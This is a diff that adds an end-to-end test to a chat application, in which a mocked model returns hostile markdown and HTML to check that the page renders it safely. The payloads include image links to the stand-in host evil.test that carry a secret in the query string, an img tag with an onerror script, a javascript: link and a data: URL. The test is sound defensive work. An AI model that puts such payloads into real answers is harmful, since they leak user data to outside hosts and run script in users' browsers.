@@ -117,6 +117,30 @@ def test_a_model_that_is_down_is_said_and_the_offline_assistant_answers(
     shoot(page, "offline instead")
 
 
+def test_a_hostile_answer_loads_nothing_and_runs_nothing(
+    open_page: OpenPage, stack: Stack, people: list[SeededPerson], model: ModelServer
+) -> None:
+    """The watch of the page fails the test when another host is asked or a script is refused."""
+    model.will(
+        Answer(
+            [
+                "![logo](https://evil.test/steal.png?d=secret) and ![x][y]\n\n[y]: https://evil.test/y.png\n\n",
+                '<img src="https://evil.test/p.png" onerror="document.title=1"> [go](javascript:alert(1)) ',
+                "[data](data:text/html,x) [plain](https://evil.test/page?d=secret)",
+            ]
+        )
+    )
+    page = chat_of(open_page, stack, people[0]).page
+
+    ask_to_the_end(page, "Show me the logo")
+
+    answer = answers(page).last
+    expect(answer.locator("img")).to_have_count(0)
+    targets = answer.locator(".markdown a").evaluate_all("links => links.map((link) => link.protocol)")
+    assert set(targets) == {"https:"}
+    expect(answer.get_by_role("link", name="plain (evil.test)")).to_be_visible()
+
+
 @pytest.mark.parametrize(("width", "theme"), [("wide", "light"), ("phone", "dark")])
 def test_an_admin_sees_the_cost_and_sets_a_budget_that_holds(
     open_page: OpenPage,
